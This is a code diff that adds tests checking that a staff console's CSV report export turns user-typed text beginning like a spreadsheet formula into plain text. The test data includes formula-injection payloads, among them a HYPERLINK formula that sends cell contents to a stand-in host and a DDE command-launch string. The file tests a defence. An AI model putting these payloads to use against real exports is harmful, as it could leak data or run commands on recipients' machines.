@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
+from typing import Any
 
 from bot.service import Service
 from storage.models import (
@@ -155,3 +158,47 @@ async def test_figures_for_a_month(console_service: Service) -> None:
     async with console_service.db.session(write=False) as s:
         empty = await build_report(s, END, END + timedelta(days=30))
     assert empty.surveys == 0 and empty.rating_average is None and empty.on_time_share is None
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"اضغط هنا")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+966551234567",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+]
+
+
+async def test_the_csv_gives_what_beneficiaries_typed_as_text_never_as_a_formula(
+    console_service: Service, browser_for: Any
+) -> None:
+    async with console_service.db.session() as s:
+        for text in [*FORMULAS, "كم مدة الرد؟"]:
+            s.add(UnansweredQuestion(text=text, lang="ar"))
+    supervisor = await browser_for("supervisor")
+    exported = await supervisor.get("/staff/reports.csv")
+    assert exported.status_code == 200
+    rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
+    unanswered = [r[1] for r in rows if r[0] == "unanswered"]
+    # (Spelling and spacing variants of one question count together, under one of them.)
+    assert len(unanswered) >= 6 and "كم مدة الرد؟" in unanswered  # plain text as it was
+    for cell in unanswered:
+        if cell != "كم مدة الرد؟":
+            assert cell.startswith("'") and cell[1:].strip() in [f.strip() for f in FORMULAS]
+    assert f"'{FORMULAS[0]}" in unanswered and f"'{FORMULAS[1]}" in unanswered
+    # The figures stay numbers.
+    assert rows[0] == ["section", "key", "value"]
+    assert all(r[2].isdigit() for r in rows if r[0] in ("unanswered", "requests"))
+
+
+def test_every_text_cell_that_starts_like_a_formula_is_made_text() -> None:
+    from staff.routes_reports import safe_cell, write_csv
+
+    for text in FORMULAS:
+        assert safe_cell(text) == "'" + text
+    for kept in ("كم مدة الرد؟", "staff:a@x.org", "2026-11-01", "a=b", "", 3, -2, 4.5):
+        assert safe_cell(kept) == kept
+    assert write_csv([["unanswered", "=1+1", -1]]) == "unanswered,'=1+1,-1\r\n"
